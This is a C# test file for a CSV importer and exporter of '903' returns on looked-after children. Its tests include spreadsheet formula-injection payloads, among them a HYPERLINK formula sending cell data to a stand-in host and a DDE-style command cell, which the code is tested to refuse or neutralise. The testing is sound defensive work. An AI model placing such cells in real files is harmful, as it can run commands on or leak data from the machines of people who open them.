using System.Text;
using Children.API.Returns903;
using Intervention.Seeds.Children;

namespace Children.Tests.Returns903;

/// <summary>What is not a 903 file is refused with the reason; the synthetic year keeps every rule.</summary>
public sealed class FileTests
{
    private static void Read(string table, byte[] bytes) =>
        new RowReader().Read(table, table + ".csv", CsvFile.Open(new MemoryStream(bytes), table + ".csv"), new ReturnData());

    [Theory]
    [InlineData("", "empty")]
    [InlineData("CHILD,SEX,DOB\r\nC1,1,01/01/2010\r\n", "lacks ETHNIC, UPN, MOTHER, MC_DOB")]
    [InlineData("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB,NAME\r\n", "NAME")]
    [InlineData("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\nC1,1,01/01/2010\r\n", "3 fields where the header row has 7")]
    [InlineData("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\n\"C1,1,01/01/2010,WBRI,UN1,,\r\n", "never closed")]
    public void A_file_that_is_not_a_903_header_file_is_refused_with_the_reason(string text, string reason)
    {
        var refused = Assert.Throws<NotA903FileException>(() => Read(Tables.Header, Encoding.UTF8.GetBytes(text)));
        Assert.Contains(reason, refused.Reason);
        Assert.Equal("header.csv", refused.File);
    }

    /// <summary>
    /// No 903 field starts with =, +, -, @, a tab or a carriage return, and a spreadsheet runs such a cell as a formula when an
    /// analyst opens the export: the import refuses it, naming the file, the row and the field, so the export stays exact.
    /// </summary>
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "UPN")]
    [InlineData("=1+cmd|' /C calc'!A0", "UPN")]
    [InlineData("+1+1", "UPN")]
    [InlineData("-2+3", "UPN")]
    [InlineData("@SUM(A1:A9)", "UPN")]
    [InlineData("\t=1+1", "UPN")]
    [InlineData("\r=1+1", "UPN")]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_is_refused_naming_the_row_and_the_field(string cell, string field)
    {
        var quoted = '"' + cell.Replace("\"", "\"\"") + '"';
        var text = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\nC0,1,01/01/2010,WBRI,A123456789012,,\r\nC1,1,01/01/2010,WBRI," + quoted + ",,\r\n";
        var refused = Assert.Throws<NotA903FileException>(() => Read(Tables.Header, Encoding.UTF8.GetBytes(text)));
        Assert.Equal("header.csv", refused.File);
        Assert.Contains($"row 1 (line 3), field {field}", refused.Reason);
        Assert.Contains("formula", refused.Reason);
    }

    /// <summary>
    /// A small import reads its files whole before copying them (and validates them as read): the records are those read as
    /// they come, blank lines skipped, readable twice, and a fault in the file is the same refusal, thrown before anything is
    /// written.
    /// </summary>
    [Fact]
    public void A_file_read_whole_gives_the_records_read_as_they_come_and_the_same_refusal()
    {
        const string text = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\nC0,1,01/01/2010,WBRI,UN1,,\r\n\r\nC1,2,01/01/2011,WBRI,UN2,0,\r\n";
        ReturnFile Open(string csv) => ReturnFile.Open(Tables.Header, "header.csv", CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(csv)), "header.csv"));

        var whole = Open(text).Buffer();

        Assert.Equal(Open(text).Records().Select(r => string.Join(",", r)), whole.Records().Select(r => string.Join(",", r)));
        Assert.Equal(2, whole.Records().Count()); // again: from memory
        var refused = Assert.Throws<NotA903FileException>(() => Open(text + "C2,1\r\n").Buffer());
        Assert.Contains("line 5: 2 fields where the header row has 7", refused.Reason);
    }

    [Fact]
    public void A_formula_cell_in_a_table_kept_as_sent_is_refused_too()
    {
        var refused = Assert.Throws<NotA903FileException>(() =>
            RowReader.RefuseFormulaCells("uasc.csv", ["CHILD", "SEX", "DUC"], ["C1", "1", "=1+1"], row: 4, line: 6));
        Assert.Equal("uasc.csv", refused.File);
        Assert.Contains("row 4 (line 6), field DUC", refused.Reason);
    }

    [Fact]
    public void Ordinary_values_and_values_with_those_characters_inside_are_read()
    {
        var data = new ReturnData();
        var text = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\nC-1,1,01/01/2010,WBRI,A1=2+3@4,,\r\n";
        new RowReader().Read(Tables.Header, "header.csv", CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(text)), "header.csv"), data);
        Assert.Equal("A1=2+3@4", Assert.Single(data.Header).Upn);
    }

    /// <summary>
    /// The import refuses such cells, but a value can reach the return another way (a record entered through the API, a row
    /// imported before the rule): the export then writes it as OWASP says, quoted behind a single quote, so it reads as text.
    /// </summary>
    [Fact]
    public void The_export_writes_a_cell_that_would_run_as_a_formula_as_text()
    {
        var written = new StringWriter();
        CsvFile.Write(written, ["C1", "=1+cmd|' /C calc'!A0", "-2", "@A1", "\t1", "ok", "S60 1"]);
        Assert.Equal("C1,\"'=1+cmd|' /C calc'!A0\",\"'-2\",\"'@A1\",\"'\t1\",ok,S60 1\r\n", written.ToString());
    }

    [Fact]
    public void Binary_content_is_refused()
    {
        var bytes = new byte[4096];
        new Random(1).NextBytes(bytes);
        Assert.Throws<NotA903FileException>(() => Read(Tables.Episodes, bytes));
    }

    [Fact]
    public void Quoted_fields_and_a_byte_order_mark_read_as_the_values_they_carry()
    {
        var data = new ReturnData();
        var text = "\uFEFFCHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\n\"C,1\",1,01/01/2010,WBRI,UN1,,\n";
        new RowReader().Read(Tables.Header, "header.csv", CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(text)), "header.csv"), data);
        Assert.Equal("C,1", Assert.Single(data.Header).Child);
        var written = new StringWriter();
        CsvFile.Write(written, data.Header[0].Fields);
        Assert.StartsWith("\"C,1\",1,", written.ToString());
    }

    /// <summary>
    /// The reader takes the file a buffer at a time: records of every shape (quoted, with doubled quotes, commas and line breaks
    /// inside, a quote inside an unquoted value, CRLF, LF or CR endings), laid so that each kind of character falls on a
    /// buffer's edge somewhere in the file, read back as written, each on the line it starts on.
    /// </summary>
    [Fact]
    public void Records_read_back_as_written_wherever_the_reader_s_buffers_end()
    {
        var records = new List<string[]>();
        var text = new StringWriter();
        var line = 1;
        var lines = new List<int>();
        for (var i = 0; i < 3000; i++)
        {
            string[] record = [$"C{i}", new string('x', i % 37), $"say \"{i}\", twice", $"a\"b{i}", i % 5 == 0 ? $"two\nlines {i}" : "", ""];
            var written = new StringWriter();
            CsvFile.Write(written, record);
            // A quote inside an unquoted value is part of it (the export would quote it; a hand-made file need not).
            records.Add([.. record, $"x\"y{i}"]);
            lines.Add(line);
            text.Write(written.ToString()[..^2] + $",x\"y{i}" + (i % 3) switch { 0 => "\r\n", 1 => "\n", _ => "\r" });
            line += 1 + (i % 5 == 0 ? 1 : 0);
        }
        var csv = CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(text.ToString())), "episodes.csv");
        for (var i = 0; i < records.Count; i++)
        {
            Assert.Equal(records[i], csv.Next());
            Assert.Equal(lines[i], csv.Line);
        }
        Assert.Null(csv.Next());
    }

    [Fact]
    public void The_benchmark_year_has_the_benchmark_s_size_and_breaks_no_rule()
    {
        var year = SyntheticReturn.Generate(SyntheticYearShape.Benchmark);
        var data = new ReturnData();
        var reader = new RowReader();
        foreach (var (table, text) in year.Files)
            reader.Read(table, table + ".csv", CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(text.ToString())), table + ".csv"), data);
        Assert.Empty(new Validator903(Returns.Year2017).Validate(data));
        Assert.Equal(2700, data.Header.Count);
        Assert.InRange(data.Episodes.Count, 4900, 5100);
        Assert.InRange(data.Reviews.Count, 12300, 12700);
    }

    [Fact]
    public void The_synthetic_2017_18_year_follows_the_seeds_figures_and_breaks_no_rule()
    {
        var year = SyntheticReturn.Generate(SyntheticYearShape.Rotherham2017To18);
        var data = new ReturnData();
        var reader = new RowReader();
        foreach (var (table, text) in year.Files)
            reader.Read(table, table + ".csv", CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(text.ToString())), table + ".csv"), data);
        var findings = new Validator903(Returns.Year2017).Validate(data);
        Assert.True(findings.Count == 0, string.Join("\n", findings.Take(20).Select(f => $"{f.Rule} {f.Table} {f.Row} {string.Join(' ', f.Fields)}")));

        bool LookedAfterOn(DateOnly day, string child) => data.Episodes.Any(e => e.Child == child && e.DecomOn <= day && (e.DecOn is null || e.DecOn > day));
        var children = data.Header.Select(h => h.Child).ToList();
        Assert.Equal(509, children.Count(c => LookedAfterOn(new DateOnly(2017, 4, 1), c)));
        Assert.Equal(628, children.Count(c => LookedAfterOn(new DateOnly(2018, 3, 31), c)));
    }
}
